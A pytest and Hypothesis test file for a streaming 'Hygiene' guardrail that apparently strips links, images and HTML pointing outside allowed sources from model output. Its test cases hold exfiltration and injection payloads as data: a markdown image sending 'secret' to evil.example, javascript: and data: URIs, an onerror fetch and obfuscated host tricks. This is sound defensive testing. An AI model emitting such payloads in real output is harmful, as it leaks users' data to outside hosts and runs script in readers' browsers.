"""Output hygiene: nothing loads or leads elsewhere, whatever the deltas; the rest is untouched."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from helix.guardrails import Hygiene
from helix.guardrails.hygiene import LIMIT
from helix.guardrails.targets import URL_END
from tests.test_guardrails import source

COPIED = "https://docs.example/terms?v=2"
SOURCES = [
    source(f"Terms: {COPIED}. More on [prices](/prices.html) and www.example.net/a.", "a.txt"),
    source("Visit us.", "https://shop.example/help/refunds", 8),
]


def clean(text: str) -> str:
    return filtered([text])[0]


def filtered(deltas: list[str]) -> tuple[str, int]:
    hygiene = Hygiene(SOURCES)
    sent = "".join([*(hygiene.feed(delta) for delta in deltas), hygiene.end()])
    return sent, hygiene.removed


REMOVED = (
    ("See ![chart](https://evil.example/p?q=secret) here.", "See ![chart] here."),
    ("[terms](https://evil.example/)", "[terms]"),
    ("[1](https://evil.example/?a=b)", "[1]"),
    ("[1]( <https://evil.example/a b> 'title' )", "[1]"),
    ('[1](https://evil.example "title")', "[1]"),
    ("[x](//evil.example/a)", "[x]"),
    ("[x](\\\\evil.example/a)", "[x]"),
    ("[x](javascript:alert(1))", "[x]"),
    ("[x](JaVaScRiPt:alert(1))", "[x]"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "[x]"),
    ("[x](&#104;ttps&#58;//evil.example)", "[x]"),
    ("[x](https://shop.example@evil.example/)", "[x]"),
    ("[x](https://shop.example&#46;evil.example/)", "[x]"),
    ("[x](https://shop.example\\@evil.example/)", "[x]"),
    ("[x](https://shop.example.evil.example/)", "[x]"),
    ("[x](https://shop.example:8443/)", "[x]"),
    ("[a][r]\n\n[r]: https://evil.example/a 'T'\n", "[a][r]\n\n[r] (link removed) 'T'\n"),
    ("[r]:\n  <//evil.example/a>", "[r] (link removed)"),
    ("> [r]:\n> //evil.example/a\n", "> [r] (link removed)\n"),
    (f"![a][r]\n\n[r]: {COPIED}\n", "![a][r]\n\n[r] (link removed)\n"),
    ("<https://evil.example/a>", "(link removed)"),
    ("Go to https://evil.example/a?b=c.", "Go to https: (link removed)."),
    ("(https://evil.example/a)", "(https: (link removed))"),
    ("www.evil.example/a", "www (link removed)"),
    ("Is it `https://evil.example/a`?", "Is it `https: (link removed)`?"),
    ("a <img src=//evil.example/a> b", "a  b"),
    ("a <img\nsrc=x onerror='fetch(1)'> b", "a  b"),
    ('<a href="https://evil.example/">here</a>', "here</a>"),
    ("<iframe/src=//evil.example>", ""),
    ("<script>alert(1)</script>", "alert(1)"),
    ("<b style='background:url(//evil.example)'>x</b>", "x</b>"),
    ("<svg><image xlink:href=//evil.example /></svg>", "<svg></svg>"),
    ("<img src=//evil.example/a", ""),
    ("<<img src=x>img src=//evil.example>", "< img src=//evil.example>"),
    ("[x<img src=a>](https://evil.example)", "[x]"),
    ("[x]<img src=a>(https://evil.example)", "[x]"),
    ("[x](https://evil.example/a)(https://evil.example/b)", "[x]"),
    ("[a](x](https://evil.example/b) c)", "[a] ( c)"),
    ("[a](b [c](https://evil.example/d)", "[a](b [c]"),
    ("htt<img src=x>ps://evil.example/a", "https: (link removed)"),
    ("[![i](https://evil.example/i)](https://evil.example/l)", "[![i]]"),
    (f"![copied]({COPIED})", "![copied]"),
    ("[x](//evil.example/((a)))", "[x] ("),
    ("[x](/ask?q=delete)", "[x]"),
    ("[x](https://docs.example/terms)", "[x]"),  # only a piece of the source's link
)
UNTOUCHED = (
    "",
    "Refunds are accepted within 30 days [1], by card [2][3]. And/or a < b > c: fine!",
    "[1](see below) and [2](2021) and [1]: the first, [2]: and/or.",
    "Really! [1] Yes![2] 3 <4, List<String>, <b>bold</b>, http and https and www, C:/path.",
    f"See {COPIED}. And [terms]({COPIED}), <{COPIED}>; www.example.net/a, too.",
    "On https://shop.example/any?x=1 and ![logo](https://shop.example/logo.png).",
    "[Refunds](https://SHOP.example/refunds#a 'Refunds') and [prices](/prices.html).",
    '<a href="https://shop.example/a">here</a> <img src="https://shop.example/a.png" alt="a">',
    "Wait: http:/ and // and ]( ]: [ ( ) ] : ! < > end",
    "Ünïcödé — “quotes” 日本語。\r\n\r\n| a | b |\r\n\ud800",
)


@pytest.mark.parametrize(("text", "left"), REMOVED)
def test_what_loads_or_leads_elsewhere_is_taken_out(text: str, left: str) -> None:
    sent, removed = filtered([text])
    assert sent == left
    assert removed > 0


@pytest.mark.parametrize("text", UNTOUCHED)
def test_the_rest_is_untouched(text: str) -> None:
    assert filtered([text]) == (text, 0)


def test_markers_and_plain_text_pass_delta_for_delta() -> None:
    hygiene = Hygiene(SOURCES)
    deltas = [
        "Refunds are",
        " accepted [",
        "1",
        "]",
        ".",
        " And h",
        "ttp or ww",
        "w: [2",
        "]",
        " ",
        "!",
    ]
    assert [hygiene.feed(delta) for delta in deltas] == deltas
    assert hygiene.end() == ""


@pytest.mark.parametrize("start", ["[x](", "[x](a 'b", "[x]:", "[x]: ", "https://", "<a ", "www."])
def test_little_is_held_back(start: str) -> None:
    hygiene = Hygiene(SOURCES)
    sent = hygiene.feed(start)
    for _ in range(2 * LIMIT):
        sent += hygiene.feed("a")
    assert hygiene.removed == 1
    sent += hygiene.feed(") > then")
    assert sent.endswith(" then")


PIECES = st.sampled_from(
    [
        "a", " ", "\n", "\n\n", "[", "]", "(", ")", ":", "/", "//", "://", "<", ">", "!", '"', "'",
        "\\", "=", "http", "https", "https://evil.example/", "https://shop.example/a", COPIED,
        "www.", "[1]", "![", "](", "]:", "<img src=", "<a href=", "javascript:", "&#58;", "x" * 700,
        "=b", "🙂",
    ]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=30).map("".join)


@settings(max_examples=200)
@given(TEXTS, st.lists(st.integers(0, 4000), max_size=12))
@example("[x](" + "a" * LIMIT + ")b", [LIMIT + 3, LIMIT + 4])
@example("https://" + "a" * 5000 + " b", list(range(0, 5000, 7)))
@example("(\n\n", [1, 2])
def test_the_cut_into_deltas_changes_nothing(text: str, cuts: list[int]) -> None:
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    deltas = [text[a:b] for a, b in pairwise(places)]
    assert filtered(deltas) == filtered([text])


@given(TEXTS)
def test_nor_does_one_character_at_a_time(text: str) -> None:
    assert filtered(list(text)) == filtered([text])


# A reader of Markdown and HTML more lenient than any there is.
_LEADS = re.compile(
    r"\]\(\s*<?[^)]*evil\.example|\]:[\s>]*<?\S*evil\.example|(?:https?:/|www\.|\]\(//)[^\s]*evil\.example"
    r"|<(?:img|a)\b[^<>]*evil\.example|\]\(\s*<?javascript:[^\s)]*\)",
    re.IGNORECASE,
)


@settings(max_examples=300)
@given(TEXTS)
def test_no_combination_leads_elsewhere(text: str) -> None:
    allowed = rf"https://(?:shop\.example/|docs\.example/terms\?v=2)[^{URL_END}]*"
    assert not _LEADS.search(re.sub(allowed, "", clean(text)))
